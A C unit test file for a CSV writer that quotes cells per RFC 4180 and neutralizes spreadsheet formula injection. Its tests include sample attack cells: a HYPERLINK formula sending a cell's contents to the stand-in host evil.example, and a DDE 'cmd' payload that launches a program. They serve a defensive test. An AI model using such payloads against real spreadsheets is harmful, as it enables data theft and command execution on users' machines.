/* The CSV cell writer behind every CSV koe writes: RFC 4180 quoting, and
 * OWASP's advice against CSV formula injection: a cell starting with '=',
 * '+', '-', '@', tab or carriage return gets a leading single quote, so a
 * spreadsheet shows it as text. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "harness.h"
#include "koe/csv.h"

/* What csv_cell writes for s. Returns a static buffer. */
static const char *
cell(const char *s)
{
	static char out[1024];
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);
	if (f == NULL)
		abort();
	csv_cell(f, s);
	if (fclose(f) != 0)
		abort();
	snprintf(out, sizeof(out), "%s", buf);
	free(buf);
	return out;
}

static void
test_plain_cells_unchanged(void)
{
	CHECK_STR(cell(""), "");
	CHECK_STR(cell("E0123"), "E0123");
	CHECK_STR(cell("user@example.jp"), "user@example.jp");
	CHECK_STR(cell("山田 太郎"), "山田 太郎");
	CHECK_STR(cell("https://survey.example.jp/s/abc"), "https://survey.example.jp/s/abc");
	/* Formula characters after the first are harmless. */
	CHECK_STR(cell("a=b+c-d@e"), "a=b+c-d@e");
	CHECK_STR(cell(" =1+1"), " =1+1");
	/* Already neutralized (read back from a file koe wrote): as it is. */
	CHECK_STR(cell("'=1+2"), "'=1+2");
}

static void
test_rfc4180_quoting(void)
{
	CHECK_STR(cell("山田, 太郎"), "\"山田, 太郎\"");
	CHECK_STR(cell("say \"hi\""), "\"say \"\"hi\"\"\"");
	CHECK_STR(cell("two\nlines"), "\"two\nlines\"");
	CHECK_STR(cell("two\r\nlines"), "\"two\r\nlines\"");
	CHECK_STR(cell("\""), "\"\"\"\"");
}

static void
test_formulas_neutralized(void)
{
	CHECK(csv_cell_is_formula("=1"));
	CHECK(csv_cell_is_formula("+1"));
	CHECK(csv_cell_is_formula("-1"));
	CHECK(csv_cell_is_formula("@1"));
	CHECK(csv_cell_is_formula("\t1"));
	CHECK(csv_cell_is_formula("\r1"));
	CHECK(!csv_cell_is_formula(""));
	CHECK(!csv_cell_is_formula("'=1"));
	CHECK(!csv_cell_is_formula("\n=1"));
	CHECK(!csv_cell_is_formula("E1"));

	CHECK_STR(cell("=1+2"), "'=1+2");
	CHECK_STR(cell("@SUM(1+1)"), "'@SUM(1+1)");
	CHECK_STR(cell("+1-2"), "'+1-2");
	CHECK_STR(cell("-3+4"), "'-3+4");
	CHECK_STR(cell("-田中"), "'-田中");
	CHECK_STR(cell("\t=1+1"), "'\t=1+1");
	/* A leading CR also needs quotes: the quote goes inside them. */
	CHECK_STR(cell("\r=1+1"), "\"'\r=1+1\"");
	CHECK_STR(cell("=HYPERLINK(\"https://evil.example/?\"&D3,\"x\")"),
	          "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&D3,\"\"x\"\")\"");
	CHECK_STR(cell("=cmd|' /C calc'!A0"), "'=cmd|' /C calc'!A0");
	CHECK_STR(cell("-"), "'-");
	CHECK_STR(cell("="), "'=");
}

static void
test_row(void)
{
	const char *cells[] = {"=1+2", "a,b", "", "ok"};
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);
	if (f == NULL)
		abort();
	csv_row(f, cells, 4, "\r\n");
	csv_row(f, cells, 1, "\n");
	fclose(f);
	CHECK_STR(buf, "'=1+2,\"a,b\",,ok\r\n'=1+2\n");
	free(buf);
}

int
main(void)
{
	RUN(test_plain_cells_unchanged);
	RUN(test_rfc4180_quoting);
	RUN(test_formulas_neutralized);
	RUN(test_row);
	return harness_done();
}
